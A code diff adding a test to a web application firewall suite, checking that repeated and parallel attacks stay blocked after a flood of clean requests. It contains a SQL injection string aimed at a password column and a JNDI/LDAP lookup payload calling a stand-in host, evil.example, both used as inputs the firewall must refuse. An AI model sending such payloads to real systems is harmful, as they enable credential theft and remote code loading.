@@ -272,6 +272,28 @@ describe('the WAF under hostile load', () => {
     await assertAlive(gw.adminUrl);
   });
 
+  test('remembered clean verdicts: the same attack sent in parallel is refused every time, a flood of distinct clean values does not crowd one out, and a clean value stays clean', async () => {
+    const attack = "1' UNION SELECT password FROM users--";
+    let seen = upstream.seen.length;
+    const same = await Promise.all(Array.from({ length: 50 }, () => send(gw.url, `/users/alice?q=${encodeURIComponent(attack)}`)));
+    for (const res of same) assertProblem(res, 403, 'injection_detected');
+    assert.equal(upstream.seen.length, seen, 'no copy of the attack reached the upstream');
+    // More distinct User-Agents than the verdict store holds (4 096 per route), 50 at a time: it is emptied and refilled.
+    for (let i = 0; i < 4_200; i += 50) {
+      const batch = await Promise.all(Array.from({ length: 50 }, (_, j) => send(gw.url, '/users/alice', { headers: { 'user-agent': `client/${i + j}` } })));
+      for (const res of batch) assert.equal(res.status, 200);
+    }
+    seen = upstream.seen.length;
+    await Promise.all([
+      send(gw.url, '/users/alice', { headers: { 'user-agent': '${jndi:ldap://evil.example/x}' } }).then((res) => assertProblem(res, 403, 'injection_detected')),
+      send(gw.url, `/users/alice?q=${encodeURIComponent(attack)}`).then((res) => assertProblem(res, 403, 'injection_detected')),
+    ]);
+    assert.equal(upstream.seen.length, seen, 'after the flood the attacks are still refused before the upstream');
+    const clean = await send(gw.url, '/users/alice', { headers: { 'user-agent': 'client/7' } });
+    assert.equal(clean.status, 200);
+    await assertAlive(gw.adminUrl);
+  });
+
   test('HEAD with an injection in the query is refused before the upstream, with no body', async () => {
     const seen = upstream.seen.length;
     const res = await fetch(`${gw.url}/users/alice?q=${encodeURIComponent("1' UNION SELECT password FROM users--")}`, { method: 'HEAD' });
